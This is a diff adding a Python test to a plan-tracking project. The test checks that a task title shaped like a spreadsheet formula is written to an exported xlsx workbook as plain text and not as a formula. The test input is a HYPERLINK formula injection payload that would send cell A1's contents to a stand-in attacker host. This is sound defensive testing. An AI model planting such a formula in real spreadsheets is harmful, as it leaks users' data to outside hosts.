@@ -145,3 +145,22 @@ def test_the_national_plan_rolls_up_the_provinces_own_plans(store, real_catalogu
     with store.session() as session:
         in_hanoi = status_rows(session, vn(2020, 12, 1), "hn-kh-03", include_not_open=True)
     assert hanoi.counts == count_statuses(in_hanoi)
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_workbook(history, tmp_path):
+    import zipfile
+
+    from plantrack.tracking import request_adhoc
+
+    title = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'
+    with history.transaction() as session:
+        request_adhoc(session, "t-plan", ["t.beta"], vn(2020, 12, 1, 9), title, 3)
+    with history.session() as session:
+        report = compile_report(session, "t-plan", AS_OF)
+    path = write_workbook(report, tmp_path / "r.xlsx")
+    with zipfile.ZipFile(path) as archive:
+        sheets = [archive.read(name).decode("utf-8") for name in archive.namelist() if name.startswith("xl/worksheets/")]
+    assert not any("<f>" in sheet for sheet in sheets)  # no formula anywhere
+    book = openpyxl.load_workbook(path)
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value == title]
+    assert cells and all(cell.data_type == "s" for cell in cells)
